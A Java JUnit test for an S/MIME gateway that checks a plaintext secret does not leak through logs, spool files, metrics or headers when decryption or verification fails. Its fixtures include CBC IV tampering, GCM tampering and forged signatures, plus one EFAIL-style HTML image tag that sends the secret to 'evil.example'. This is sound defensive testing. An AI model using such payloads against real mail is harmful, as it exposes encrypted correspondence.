package org.smimegw.gateway.smime.attacks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.smimegw.gateway.smime.attacks.Parties.EVE;
import static org.smimegw.gateway.smime.attacks.Parties.JOHNNY;
import static org.smimegw.gateway.smime.attacks.Parties.outer;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.IThrowableProxy;
import ch.qos.logback.core.read.ListAppender;
import jakarta.mail.internet.MimeMessage;
import org.bouncycastle.asn1.ASN1ObjectIdentifier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

import org.smimegw.certstore.file.FileCertificateStore;
import org.smimegw.certstore.testing.CmsForgery;
import org.smimegw.gateway.config.ConfigLoader;
import org.smimegw.gateway.smime.SmimeGatewayFixture;
import org.smimegw.gateway.spool.SpoolArea;

/**
 * Every way decryption and verification can fail, with a secret in the plain text: the mail is delivered (the
 * ciphertext unchanged where decryption failed, with {@code X-SMIME-Decryption: failed} and a reason), or quarantined
 * where the recipient's policy says so (vault@example.com requires signed mail), and the secret appears in no log
 * line (our code at DEBUG, exceptions with their causes), no spool envelope (quarantine reasons included), no metric
 * name and no verdict header.
 */
class SecretNeverLeaksTest {

    private static final String SECRET = "Sekrit" + UUID.randomUUID().toString().replace("-", "");
    private static final String VAULT = "vault@example.com";

    @TempDir
    Path dir;

    @Test
    void noFailurePathLeaksThePlainText() throws Exception {
        Parties parties = new Parties(dir.resolve("scratch"));
        Path yaml = SmimeGatewayFixture.writeConfig(dir, "");
        Files.writeString(dir.resolve("conf/policy.yaml"), """
                users:
                  vault@example.com:
                    Receiving:
                      RequireSignedSMIMEMessages: true
                """);
        parties.fill(FileCertificateStore.fromConfig(new ConfigLoader().load(yaml).certstore(), dir,
                System::getenv));
        Map<String, String> decryptionFailures = decryptionFailures(parties);
        Map<String, String> others = otherFailures(parties);

        LoggerContext logging = (LoggerContext) LoggerFactory.getILoggerFactory();
        Logger root = logging.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        Logger ours = logging.getLogger("org.smimegw");
        Level ourLevel = ours.getLevel();
        ListAppender<ILoggingEvent> captured = new ListAppender<>();
        captured.setContext(logging);
        captured.start();
        root.addAppender(captured);
        ours.setLevel(Level.DEBUG);
        List<MimeMessage> delivered;
        try (SmimeGatewayFixture gateway = SmimeGatewayFixture.start(dir)) {
            Map<String, String> all = new LinkedHashMap<>(decryptionFailures);
            all.putAll(others);
            for (Map.Entry<String, String> mail : all.entrySet()) {
                assertThat(gateway.send(Raw.bytes(Raw.prepend(AttackCase.HEADER + ": " + mail.getKey(),
                        mail.getValue())), EVE, JOHNNY, VAULT)).as(mail.getKey()).startsWith("250");
            }
            delivered = gateway.awaitMail(JOHNNY, all.size());
            // the only validly signed one (its unparseable part is inside eve's intact signature) reaches the vault
            SmimeGatewayFixture.await("every copy for " + VAULT + " quarantined or delivered", () -> {
                try {
                    return gateway.app().spool().list(SpoolArea.QUARANTINE).size() == all.size() - 1
                            && gateway.inbox(VAULT).size() == 1;
                } catch (Exception e) {
                    return false;
                }
            });
            for (Map.Entry<String, String> failure : decryptionFailures.entrySet()) {
                MimeMessage m = find(delivered, failure.getKey());
                String decryption = m.getHeader("X-SMIME-Decryption", null);
                assertThat(decryption).as(failure.getKey()).startsWith("failed (");
                assertThat(Raw.body(Raw.of(m)).stripTrailing()).as(failure.getKey() + ": the ciphertext as sent")
                        .isEqualTo(Raw.body(failure.getValue()).stripTrailing());
            }
            for (MimeMessage m : delivered) {
                assertThat(Raw.headers(Raw.of(m)).lines().filter(l -> l.startsWith("X-SMIME-")))
                        .as("verdict headers").noneMatch(l -> l.contains(SECRET));
            }
            assertThat(gateway.app().metrics().getNames()).noneMatch(n -> n.contains(SECRET));
        } finally {
            root.detachAppender(captured);
            ours.setLevel(ourLevel);
        }

        List<String> lines = captured.list.stream().map(SecretNeverLeaksTest::render).toList();
        assertThat(lines).as("log lines").isNotEmpty();
        assertThat(lines).as("log lines").noneMatch(l -> l.contains(SECRET));
        assertThat(lines).as("the failures were logged (so the check above could see a leak)")
                .anyMatch(l -> l.contains("decryption: failed"));
        // spool metadata: the envelopes (JSON) of every area (the quarantine's with their reasons), also those
        // recycled into tmp/ for reuse
        List<String> envelopes = new ArrayList<>();
        try (Stream<Path> files = Files.walk(dir.resolve("var/spool"))) {
            for (Path f : files.filter(Files::isRegularFile).toList()) {
                String content = new String(Files.readAllBytes(f), StandardCharsets.ISO_8859_1);
                if (f.toString().endsWith(".env") || content.startsWith("{")) {
                    envelopes.add(content);
                }
            }
        }
        assertThat(envelopes).as("spool envelopes").isNotEmpty();
        assertThat(envelopes).as("spool envelopes").noneMatch(e -> e.contains(SECRET));
    }

    /** Mails whose decryption fails; each value is the message as sent (without the case marker). */
    private static Map<String, String> decryptionFailures(Parties p) throws Exception {
        Map<String, String> mails = new LinkedHashMap<>();
        String from = "From: Eve <" + EVE + ">";
        String plain = Raw.lines("Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 7bit", "")
                + "the secret is " + SECRET + Raw.CRLF;
        // a Content-Type that does not parse, and whose parse error would quote it
        String unparseable = Raw.lines("Subject: " + SECRET, "Content-Type: " + SECRET + "; charset=us-ascii", "")
                + SECRET + Raw.CRLF;
        String brokenInnerPart = Raw.multipart("mixed", "b", Raw.lines("Content-Type: " + SECRET + "; x=1", "")
                + SECRET);
        mails.put("decrypted-content-unparseable-cbc", Parties.encryptCbc(outer(from, "1"), unparseable, p.johnny));
        mails.put("decrypted-content-unparseable-gcm", Parties.encryptGcm(outer(from, "2"), unparseable, p.johnny));
        mails.put("decrypted-inner-part-unparseable", Parties.encryptCbc(outer(from, "3"), brokenInnerPart,
                p.johnny));
        byte[] cbc = CmsForgery.enveloped(plain, p.johnny.certificate());
        mails.put("cbc-iv-breaks-header", Cms.smime(outer(from, "4"),
                CmsForgery.xorIv(cbc, CmsForgery.delta("Content-Type: te", "Content-Type: ;;")), "enveloped-data"));
        mails.put("cbc-truncated", Cms.smime(outer(from, "5"), CmsForgery.truncate(cbc, 1), "enveloped-data"));
        mails.put("gcm-tampered", Cms.smime(outer(from, "6"),
                CmsForgery.xorAuthCiphertext(CmsForgery.authEnveloped(plain, p.johnny.certificate()), 2, new byte[] {1}),
                "authEnveloped-data"));
        mails.put("cms-garbage", Cms.smime(outer(from, "7"), Raw.bytes("the secret is " + SECRET),
                "enveloped-data"));
        mails.put("unsupported-algorithm", Cms.smime(outer(from, "8"),
                CmsForgery.withContentAlgorithm(cbc, new ASN1ObjectIdentifier("1.3.6.1.4.1.99999.1")), "enveloped-data"));
        return mails;
    }

    /** Mails that fail elsewhere: not for us, nested, badly signed, an unreadable structure, an ambiguous From. */
    private static Map<String, String> otherFailures(Parties p) throws Exception {
        Map<String, String> mails = new LinkedHashMap<>();
        String from = "From: Eve <" + EVE + ">";
        String plain = Raw.lines("Content-Type: text/plain; charset=us-ascii", "") + SECRET + Raw.CRLF;
        mails.put("no-key", Parties.encryptCbc(outer(from, "9"), plain, p.manager));
        mails.put("nested-refused", Raw.message(outer(from, "10"), Raw.multipart("mixed", "n",
                Raw.lines("Content-Type: text/html", "") + "<img src=\"http://evil.example/?" + SECRET,
                Raw.entity(Parties.encryptCbc(outer(from, "x"), plain, p.johnny)))));
        String signed = p.sign(Parties.text(from, SECRET, SECRET), p.eve);
        mails.put("signature-garbage", Raw.message(outer(from, "11"), Cms.clearSignedEntity(plain,
                Raw.bytes("garbage " + SECRET), "application/pkcs7-signature")));
        mails.put("signed-content-altered", signed.replace("Content-Transfer-Encoding: 7bit" + Raw.CRLF + Raw.CRLF
                + SECRET, "Content-Transfer-Encoding: 7bit" + Raw.CRLF + Raw.CRLF + SECRET + "!"));
        String badPart = Raw.lines("Content-Type: " + SECRET + "; x=1", "") + SECRET + Raw.CRLF;
        mails.put("signed-part-unparseable", Raw.message(outer(from, "12"), Cms.clearSignedEntity(badPart,
                CmsForgery.signedData(Raw.bytes(badPart), false, List.of(CmsForgery.Signer.honest(p.eve)), Parties.chain(p.eve)),
                "application/pkcs7-signature")));
        mails.put("ambiguous-sender", Raw.replace("From", "From: " + SECRET + " <" + EVE + ">, " + SECRET
                + " <x@evil.example>", signed));
        return mails;
    }

    private static MimeMessage find(List<MimeMessage> delivered, String id) throws Exception {
        for (MimeMessage m : delivered) {
            if (id.equals(m.getHeader(AttackCase.HEADER, null))) {
                return m;
            }
        }
        throw new AssertionError(id + " not delivered");
    }

    /** A log event as a log line shows it: message, MDC, and every exception in the cause chain with its message. */
    private static String render(ILoggingEvent event) {
        StringBuilder out = new StringBuilder(event.getLoggerName()).append(' ').append(event.getFormattedMessage())
                .append(' ').append(event.getMDCPropertyMap());
        for (IThrowableProxy t = event.getThrowableProxy(); t != null; t = t.getCause()) {
            out.append(" | ").append(t.getClassName()).append(": ").append(t.getMessage());
        }
        return out.toString();
    }
}
